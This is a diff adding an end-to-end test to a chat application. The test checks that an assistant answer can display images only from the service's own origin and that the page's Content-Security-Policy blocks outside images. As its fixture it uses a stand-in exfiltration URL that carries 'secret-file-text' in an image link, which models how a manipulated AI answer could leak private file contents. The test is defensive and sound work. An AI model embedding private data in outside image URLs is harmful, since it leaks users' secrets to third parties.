@@ -1,7 +1,16 @@
 import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { ANSWER, REASONING } from "../fakes/openai-compatible";
-import { chatReady, connectBrowser, newContext, registerUser, screenshot, signInThroughUi } from "./browser";
+import {
+  apiOrigin,
+  chatReady,
+  clientOrigin,
+  connectBrowser,
+  newContext,
+  registerUser,
+  screenshot,
+  signInThroughUi,
+} from "./browser";
 
 let browser: Browser;
 beforeAll(async () => {
@@ -121,6 +130,54 @@ describe("chat", () => {
     expect(await answer.locator("a").count()).toBe(0);
     expect(await answer.textContent()).toContain("a link");
     await screenshot(page, "08-chat-markdown");
+    await context.close();
+  });
+
+  it("E11: loads the service's images in an answer; another host's image is a link naming it, never requested", async () => {
+    const { context, offLoopback } = await newContext(browser);
+    const page = await context.newPage();
+    await openChat(page);
+    // What an answer that read a private file could write: its text in the URL of an image elsewhere.
+    const leak = "https://elsewhere.example/?d=secret-file-text";
+    await message(page).fill(`[script:echo] ![chart](${apiOrigin}/favicon.svg) and ![x](${leak})`);
+    await page.getByRole("button", { name: "Send" }).click();
+    const answer = page.locator('[data-role="assistant"] .text').last();
+    const link = answer.getByRole("link", { name: "x (image from elsewhere.example)", exact: true });
+    await link.waitFor();
+    await chatReady(page);
+    expect(await link.getAttribute("href")).toBe(leak);
+    const images = answer.locator("img");
+    expect(await images.count()).toBe(1);
+    expect(await images.getAttribute("src")).toBe(`${apiOrigin}/favicon.svg`);
+    await expect
+      .poll(() => images.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0))
+      .toBe(true);
+
+    // The page's CSP refuses an image from elsewhere even if one reached the DOM another way.
+    const refused = await page.evaluate(
+      (url) =>
+        new Promise<string>((resolve) => {
+          document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), {
+            once: true,
+          });
+          const img = document.createElement("img");
+          img.src = url;
+          document.body.append(img);
+        }),
+      "https://elsewhere.example/csp-probe.png",
+    );
+    expect(refused).toBe("img-src");
+    expect(offLoopback).toEqual([]);
+
+    // The policy is in the page, built for its service; the server adds frame-ancestors, which a
+    // <meta> tag cannot carry.
+    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+    expect(meta).toContain(`img-src 'self' data: blob: ${apiOrigin};`);
+    expect(meta).toContain(`connect-src 'self' ${apiOrigin} ${apiOrigin.replace(/^http/, "ws")};`);
+    const served = await fetch(clientOrigin);
+    expect(served.headers.get("Content-Security-Policy")).toBe("frame-ancestors 'none'");
+    expect(served.headers.get("X-Frame-Options")).toBe("DENY");
+    expect(meta).not.toContain("frame-ancestors");
     await context.close();
   });
 
